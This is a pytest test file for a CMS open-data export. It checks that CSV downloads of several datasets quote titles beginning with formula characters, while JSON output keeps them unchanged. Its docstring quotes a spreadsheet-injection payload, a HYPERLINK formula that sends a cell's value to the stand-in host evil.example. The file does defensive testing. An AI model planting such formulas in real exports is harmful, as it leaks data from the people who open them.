"""Open-data CSV files cannot carry a live formula; JSON keeps values as they are.

Titles come from every unit's editors, so a title such as
`=HYPERLINK("http://evil.example/?x="&B2,"Lihat")` comes out of the public CSV
quoted. Every dataset is streamed through the same guard.
"""

import json

import pytest

from cms.core.open_data import csv_stream, datasets
from consultation.forums.factories import ConsultationPageFactory
from consultation.surveys.factories import (
    SatisfactionSurveyPageFactory,
    SurveyResponseFactory,
)
from innovation.factories import InnovationEntryPageFactory
from standards.factories import ServiceStandardPageFactory
from tests.spreadsheet_checks import ORDINARY, PREFIXES, csv_values, formula

pytestmark = pytest.mark.django_db


def titled_unit(make_unit, title):
    make_unit(title)


def titled_standard(make_unit, title):
    ServiceStandardPageFactory(parent=make_unit("KJRI Toronto"), title=title)


def titled_survey(make_unit, title):
    survey = SatisfactionSurveyPageFactory(
        parent=make_unit("KJRI Toronto"), title=title, population=0
    )
    SurveyResponseFactory(survey=survey)


def titled_consultation(make_unit, title):
    ConsultationPageFactory(parent=make_unit("KJRI Toronto"), title=title)


def titled_innovation(make_unit, title):
    InnovationEntryPageFactory(
        parent=make_unit("KJRI Toronto"), title=title, competition_year=2021
    )


MAKERS = {
    "units": titled_unit,
    "standards": titled_standard,
    "skm": titled_survey,
    "consultations": titled_consultation,
    "innovations": titled_innovation,
}


def test_every_dataset_is_covered_here():
    assert set(datasets()) == set(MAKERS)


@pytest.mark.parametrize("name", sorted(MAKERS))
@pytest.mark.parametrize("prefix", PREFIXES)
def test_dataset_csv_quotes_a_formula_title(client, make_unit, name, prefix):
    MAKERS[name](make_unit, formula(prefix))
    values = csv_values(client.get(f"/api/data/{name}.csv"))
    assert "'" + formula(prefix) in values
    assert formula(prefix) not in values


@pytest.mark.parametrize("name", sorted(MAKERS))
def test_dataset_csv_keeps_an_ordinary_title(client, make_unit, name):
    MAKERS[name](make_unit, ORDINARY)
    assert ORDINARY in csv_values(client.get(f"/api/data/{name}.csv"))


def test_dataset_json_keeps_a_formula_title_as_it_is(client, make_unit):
    titled_standard(make_unit, formula("="))
    response = client.get("/api/data/standards.json")
    data = json.loads(b"".join(response.streaming_content))
    assert data[0]["title"] == formula("=")


@pytest.mark.parametrize("name", sorted(MAKERS))
def test_every_column_of_a_dataset_is_guarded(name):
    dataset = datasets()[name]
    row = dict.fromkeys(dataset.columns, formula("@"))
    lines = list(csv_stream(dataset, [row]))
    assert formula("@") not in lines[1].replace("'" + formula("@"), "")
    assert lines[1].count("'@") == len(dataset.columns)
